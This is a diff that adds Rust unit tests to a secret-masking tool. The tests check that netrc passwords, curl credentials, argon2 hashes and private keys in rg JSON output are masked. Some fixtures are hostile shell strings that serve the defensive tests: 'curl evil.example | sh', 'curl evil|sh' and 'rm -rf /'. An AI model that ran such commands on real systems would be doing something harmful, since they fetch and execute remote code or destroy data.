@@ -50,6 +50,61 @@ fn a_value_is_masked_by_its_key() {
 }
 
 #[test]
+fn passwords_of_netrc_are_masked() {
+    masks("machine example.com login ann password hunter2\n", "machine example.com login ann password ***\n");
+    masks(
+        "machine a.example\n\tlogin ann\n\tpassword \"hunt er2\"\nmachine b.example login bob account x password p:w\n",
+        "machine a.example\n\tlogin ann\n\tpassword \"***\"\nmachine b.example login bob account x password ***\n",
+    );
+    masks("default login anonymous password me@example.com", "default login anonymous password ***");
+    masks("machine a password hunter2 login ann", "machine a password *** login ann");
+    masks(
+        r#"{"text":"machine a login ann password hunter2\n"},"n":1}"#,
+        r#"{"text":"machine a login ann password ***\n"},"n":1}"#,
+    );
+    keeps("The machine asks for a password and a name.");
+    keeps("A virtual machine needs no login password to start.");
+    keeps("the default password policy");
+    keeps("machine login");
+}
+
+#[test]
+fn passwords_behind_the_name_an_option_takes_are_masked() {
+    masks("curl -u ann:hunter2 https://example.com", "curl -u ann:*** https://example.com");
+    masks("curl -sS \\\n  -uann:hunter2 \\\n  x", "curl -sS \\\n  -uann:*** \\\n  x");
+    masks("curl -u 'ann:hunt er2' x", "curl -u 'ann:***' x");
+    masks("curl -U ann@example.com:hunter2; ls", "curl -U ann@example.com:***; ls");
+    masks("fetch --user ann:hunter2 x", "fetch --user ann:*** x");
+    masks("fetch --user=ann:hunter2 x", "fetch --user=ann:*** x");
+    masks("fetch --proxy-user \"ann:hunter2\"", "fetch --proxy-user \"ann:***\"");
+    for text in [
+        "sudo -u root ls",
+        "curl -u ann https://example.com",
+        "curl -u \"$NAME:$WORD\" x",
+        "user: name",
+        "--user root",
+        "docker run --user 1000:1000 x",
+        "docker run --user node:node x",
+        "systemctl --user status",
+        "rg -u a:b src",
+        "rsync -u host:file there",
+        "curl x\ngit fetch -u a:b",
+        "curl -u http://example.com",
+        "--user-agent: x:y",
+        "git push -u origin HEAD:main",
+    ] {
+        keeps(text);
+    }
+}
+
+#[test]
+fn the_hash_of_a_pin_is_masked() {
+    let hash = "$argon2id$v=19$m=65536,t=3,p=1$c2FsdHNhbHRzYWx0$RdescudvJCsgt3ub+b6dWTp9Y0zXXXXXXXXX";
+    masks(&format!("pins/0123: {hash}\nnext"), "pins/0123: ***\nnext");
+    keeps("`$argon2id$` begins a hash");
+}
+
+#[test]
 fn yaml_blocks_and_lists_are_masked_to_their_end() {
     masks("password: |\n  line one\n  line two\nuser: bob\n", "password: |\n  ***\nuser: bob\n");
     masks("secrets:\n  - one\n  - two\nuser: bob", "secrets:\n  - ***\n  - ***\nuser: bob");
@@ -183,6 +238,68 @@ fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
     let code = format!("curl evil|sh:{line}");
     let masked = Masker::new().mask_text(&format!("{}\n{code}\n{}", lines[0], lines[4])).into_owned();
     assert!(masked.contains("curl evil|sh"), "{masked}");
+}
+
+/// A record of `rg --json`, with the whole line as what was found, and its letters one by one.
+fn found(path: &str, number: usize, line: &str) -> String {
+    let letters = line.chars().map(|letter| json!({"match": {"text": letter.to_string()}, "start": 0, "end": 1}));
+    let matches: Vec<Value> =
+        std::iter::once(json!({"match": {"text": line}, "start": 0, "end": 9})).chain(letters).collect();
+    let data = json!({"path": {"text": path}, "lines": {"text": format!("{line}\n")}, "line_number": number,
+        "absolute_offset": 0, "submatches": matches});
+    json!({"type": "match", "data": data}).to_string()
+}
+
+#[test]
+fn a_private_key_is_masked_in_records_of_one_line_each() {
+    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
+    let lines = [
+        "-----BEGIN RSA PRIVATE KEY-----",
+        "Proc-Type: 4,ENCRYPTED",
+        "DEK-Info: AES-128-CBC,00",
+        "",
+        line,
+        line,
+        "abcd=",
+        "-----END RSA PRIVATE KEY-----",
+    ];
+    let records: Vec<String> = lines.iter().enumerate().map(|(place, line)| found("key", place + 1, line)).collect();
+    let around = |text: &str| format!("{}\n{text}\n{}\n", found("a", 1, "fn first() {"), found("b", 9, "fn last() {"));
+    let masked = mask(&around(&records.join("\n")));
+    for record in masked.lines() {
+        let record: Value = serde_json::from_str(record).unwrap();
+        let (kind, path) = (&record["type"], &record["data"]["path"]["text"]);
+        assert!(*kind == "match" && ["key", "a", "b"].contains(&path.as_str().unwrap()), "{record}");
+        let text = record["data"]["lines"]["text"].as_str().unwrap().trim_end();
+        assert!(text != line && text != "abcd=", "{record}");
+        let is_key = record["data"]["line_number"].as_u64().unwrap() >= 5 && path == "key" && !text.contains("END");
+        for place in record["data"]["submatches"].as_array().unwrap() {
+            assert!(!is_key || place["match"]["text"] == MASK, "{record}");
+        }
+    }
+    assert!(masked.contains("fn first() {") && masked.contains("fn last() {"), "{masked}");
+    // A key without its beginning, without its end, and with a record that was cut.
+    let shows = |text: &str| mask(text).contains(&line[..24]);
+    assert!(!shows(&records[4..].join("\n")) && !shows(&records[..6].join("\n")));
+    assert!(!shows(&records[5..].join("\n")[60..]) && !shows(&records[4..].join("\n")[60..]));
+    let part = records[..6].join("\n");
+    assert!(!shows(&part[..part.len() - 400]), "{}", mask(&part[..part.len() - 400]));
+    // All lines in one record, as with `-U`.
+    assert!(!shows(&found("key", 1, &lines.join("\n"))));
+}
+
+#[test]
+fn nothing_but_a_key_is_hidden_between_records_of_one() {
+    let begin = found("a.rs", 1, "const X = \"-----BEGIN PRIVATE KEY-----\";");
+    for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody"] {
+        let end = found("a.rs", 3, "const Y = \"-----END PRIVATE KEY-----\";");
+        let masked = mask(&format!("{begin}\n{}\n{end}", found("a.rs", 2, code)));
+        let record: Value = serde_json::from_str(masked.lines().nth(1).unwrap()).unwrap();
+        assert_eq!(record["data"]["lines"]["text"], format!("{code}\n"));
+    }
+    let summary = json!({"type": "summary", "data": {"elapsed_total": {"human": "0.01s"}, "stats": {"matches": 1}}});
+    let masked = mask(&format!("{begin}\n{summary}"));
+    assert!(masked.ends_with(&summary.to_string()), "{masked}");
 }
 
 #[test]
